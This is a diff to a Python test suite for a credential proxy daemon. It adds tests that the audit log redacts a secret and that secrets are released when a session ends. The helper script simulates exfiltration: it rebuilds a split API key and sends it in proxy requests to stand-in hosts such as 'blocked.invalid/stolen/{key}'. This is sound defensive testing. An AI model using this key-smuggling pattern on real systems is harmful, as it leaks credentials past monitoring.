@@ -9,6 +9,7 @@ never the phantom token.
 from __future__ import annotations
 
 import asyncio
+import gc
 import grp
 import json
 import os
@@ -17,7 +18,7 @@ import subprocess
 import sys
 import threading
 import uuid
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -27,6 +28,7 @@ import websockets
 from websockets.asyncio.server import ServerConnection, serve
 from websockets.http11 import Request, Response
 
+from nonod.credentials import Secret
 from tests.daemon.conftest import DaemonThread
 from tests.daemon.conftest import short_tmp as short_tmp  # the fixture
 from tests.daemon.test_cli import CLI, cli_env
@@ -49,6 +51,25 @@ base = os.environ["WSAPI_BASE_URL"].replace("http://", "ws://", 1)
 token = os.environ["WSAPI_KEY"]
 headers = {"x-api-key": token}
 out = {"token": token}
+if sys.argv[3:] == ["halves"]:
+    # The key comes back in two pieces the scrubber cannot know for parts of it (its
+    # documented residual: a key cut up by the upstream): the program puts it together and
+    # writes it where the daemon records what it does: the targets of requests to its proxy.
+    import base64, socket
+    with connect(base + "/echo", additional_headers=headers, open_timeout=20) as ws:
+        ws.send("halves")
+        key = ws.recv(timeout=20) + ws.recv(timeout=20)
+    auth = base64.b64encode(b"nono:" + os.environ["NONO_PROXY_TOKEN"].encode()).decode()
+    port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
+    for head in (f"CONNECT {key}.invalid:443 HTTP/1.1\r\nHost: {key}.invalid:443\r\n",
+                 f"GET http://blocked.invalid/stolen/{key} HTTP/1.1\r\n"
+                 "Host: blocked.invalid\r\n"):
+        with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
+            s.sendall((head + f"Proxy-Authorization: Basic {auth}\r\n\r\n").encode())
+            out.setdefault("answers", []).append(s.recv(200).decode()[:12])
+    out["key_rebuilt"] = len(key)
+    print(json.dumps(out))
+    sys.exit(0)
 if sys.argv[3:] == ["echo"]:
     with connect(base + "/echo", additional_headers=headers, open_timeout=20) as ws:
         ws.send("hello")
@@ -124,7 +145,10 @@ def _answer(connection: ServerConnection, request: Request, response: Response
 async def _echo(ws: ServerConnection, upstream: Upstream) -> None:
     try:
         async for message in ws:
-            if message == "reflect":
+            if message == "halves":
+                await ws.send(REAL[:10])
+                await ws.send(REAL[10:])
+            elif message == "reflect":
                 await ws.send(f"your key is {REAL}")
             elif message == "close-4001":
                 await ws.close(4001, "bye")
@@ -168,11 +192,12 @@ def ws_upstream(tmp_path: Path) -> Iterator[Upstream]:
 
 
 def launch(upstream: Upstream, base: Path, credential_key: str, *program: str,
-           client_env: dict[str, str] | None = None) -> tuple[subprocess.CompletedProcess[str],
-                                                                  DaemonThread]:
+           client_env: dict[str, str] | None = None,
+           after: Callable[[], None] | None = None,
+           ) -> tuple[subprocess.CompletedProcess[str], DaemonThread]:
     """``nonoctl launch`` of ``program`` (in ``base/work``, holding inside.py) with one route,
     ``wsapi``, to the fake upstream, through a daemon pinned to it; the daemon is stopped
-    before this returns."""
+    before this returns (``after`` is called once the session ended, before that)."""
     work = base / "work"
     work.mkdir(mode=0o755, exist_ok=True)
     (work / "inside.py").write_text(INSIDE)
@@ -195,6 +220,8 @@ def launch(upstream: Upstream, base: Path, credential_key: str, *program: str,
     try:
         run = CLI({**cli_env(daemon.socket, base), **(client_env or {})}, work)
         done = run("launch", "--profile", str(profile), "--allow-cwd", "--", *program)
+        if after is not None:
+            after()
     finally:
         daemon.stop()
     return done, daemon
@@ -256,6 +283,48 @@ def test_env_sources_read_the_daemons_environment_never_the_clients(
     assert injected, sorted({str(r.get("type")) for r in records})
     assert [(r["route"], r["credential"], r["source"], r["into"]) for r in injected] == [
         ("wsapi", f"env://{variable}", "env", "x-api-key")]
+
+
+def test_a_route_secret_the_program_pieced_together_stays_out_of_the_audit(
+        ws_upstream: Upstream, short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    # The audit file is shipped and kept: it must hold no real secret, whatever the program
+    # writes into what is recorded, not only the phantom token and env_credentials values.
+    variable = f"NONO_E2E_KEY_{uuid.uuid4().hex[:8].upper()}"
+    monkeypatch.setenv(variable, REAL)
+    done, daemon = launch(ws_upstream, short_tmp, f"env://{variable}",
+                          PY, "-S", "inside.py", str(SITE), "0", "halves")
+    assert done.returncode == 0, done.stderr
+    out = json.loads(done.stdout.strip().splitlines()[-1])
+    assert out["key_rebuilt"] == len(REAL)
+    audit = "".join(path.read_text() for path in daemon.state_dir.rglob("audit.ndjson"))
+    assert "blocked.invalid" in audit  # the requests are recorded...
+    assert REAL.lower() not in audit.lower()  # ...without the key (hosts are lower case)
+    assert "/stolen/[redacted]" in audit
+
+
+def test_a_sessions_route_secret_is_let_go_when_it_ends(
+        ws_upstream: Upstream, short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    # Python cannot wipe a string, but the daemon holds a session's real secret only while
+    # the session runs: nothing long-lived (a cancelled timer of the proxy's pump, waiting
+    # for its deadline with its callback) may keep the session's route table alive.
+    variable = f"NONO_E2E_KEY_{uuid.uuid4().hex[:8].upper()}"
+    monkeypatch.setenv(variable, REAL)
+    kept: list[int] = []
+
+    def secrets() -> set[int]:
+        gc.collect()
+        return {id(o) for o in gc.get_objects() if isinstance(o, Secret)}
+
+    before = secrets()  # other tests' (alive, so their ids are not reused)
+
+    def count() -> None:
+        kept.append(len(secrets() - before))
+
+    done, _ = launch(ws_upstream, short_tmp, f"env://{variable}",
+                     PY, "-S", "inside.py", str(SITE), "0", "echo", after=count)
+    assert done.returncode == 0, done.stderr
+    assert [head["x-api-key"] for head in ws_upstream.handshakes] == [REAL]
+    assert kept == [0]
 
 
 @pytest.mark.parametrize("source", ["env", "keychain"])
